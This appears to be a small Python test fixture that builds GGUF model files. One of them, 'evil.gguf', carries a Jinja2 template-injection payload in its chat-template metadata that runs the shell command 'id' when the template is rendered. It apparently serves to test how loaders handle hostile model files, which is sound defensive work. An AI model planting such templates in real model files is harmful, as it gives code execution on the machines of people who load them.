"""GGUF files that nobody looks at without running them."""

import struct

import st


def build(d):
    def text(t):
        return struct.pack("<Q", len(t)) + t.encode()

    st.write(d / "empty.gguf", b"")
    pairs = {"general.architecture": "llama",
             "tokenizer.chat_template": "{{ lipsum.__globals__['os'].popen('id').read() }}"}
    values = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs.items())
    st.write(d / "evil.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + values)
